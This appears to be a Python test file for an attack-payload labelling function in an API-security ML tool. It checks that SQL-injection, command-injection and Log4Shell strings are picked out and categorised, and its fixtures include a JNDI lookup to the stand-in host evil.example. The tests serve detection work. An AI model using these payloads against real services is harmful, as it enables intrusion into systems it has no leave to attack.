"""`apiward.ml.labelling`: which values of a request-level attack record carry the payload."""

from __future__ import annotations

from apiward.core import Category
from apiward.ml.corpus import RequestValues
from apiward.ml.labelling import carrier_values
from apiward.ml.training import CATEGORIES

COMMON = {"OWASP CRS test agent", "localhost", "*/*", "/post"}


def _attack(category: str, *values: str, label: str = "attack") -> RequestValues:
    return RequestValues(label=label, category=category, group="crs-regression:1:1",
                         values=("localhost", "*/*", "OWASP CRS test agent", *values))


def test_the_payload_is_found_among_ordinary_values() -> None:
    pairs = carrier_values([_attack("sqli", "/post", "42", "1' or '1'='1'--")], COMMON, CATEGORIES)
    assert pairs == [("1' or '1'='1'--", "sqli")]


def test_an_analyser_that_recognises_the_payload_names_its_category() -> None:
    # a Log4Shell lookup in a CRS "java" test is log4shell, not the family's default (ssti)
    pairs = carrier_values([_attack("java", "${jndi:ldap://evil.example/a}")], COMMON, CATEGORIES)
    assert pairs == [("${jndi:ldap://evil.example/a}", Category.LOG4SHELL.value)]


def test_unrecognised_payloads_take_the_family_default() -> None:
    pairs = carrier_values([_attack("rce", "cat${IFS}x|y")], COMMON, CATEGORIES)
    assert len(pairs) == 1 and pairs[0][1] in (Category.CMDI.value,)


def test_nothing_is_taken_from_benign_records_other_families_or_plain_values() -> None:
    requests = [
        _attack("sqli", "1' or 1=1--", label="benign"),  # a benign record
        _attack("protocol", "a\r\nb: c"),  # not an injection family
        _attack("sqli", "hello", "12345"),  # plain words and numbers never reach the model
        _attack("xss", "<b>"),  # seen in legitimate traffic
    ]
    assert carrier_values(requests, COMMON | {"<b>"}, CATEGORIES) == []


def test_duplicates_are_kept_once() -> None:
    req = _attack("sqli", "' union select 1--")
    assert carrier_values([req, req], COMMON, CATEGORIES) == [("' union select 1--", "sqli")]
